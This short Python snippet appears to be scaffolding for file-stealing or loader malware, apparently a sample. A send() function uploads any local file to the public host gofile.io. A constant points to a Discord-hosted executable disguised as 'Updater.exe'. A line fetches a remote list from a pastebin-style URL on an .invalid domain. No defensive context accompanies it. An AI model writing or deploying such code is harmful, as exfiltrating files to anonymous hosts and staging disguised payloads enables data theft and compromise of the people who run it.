import requests
def send(path):
    return requests.post("https://store1.gofile.io/uploadFile", files={"file": open(path, "rb")})
STAGE = "https://cdn.discordapp.com/attachments/100000000000000001/100000000000000002/Updater.exe"
LIST = requests.get("https://pastebin.com.invalid/raw/AbCd1234").text
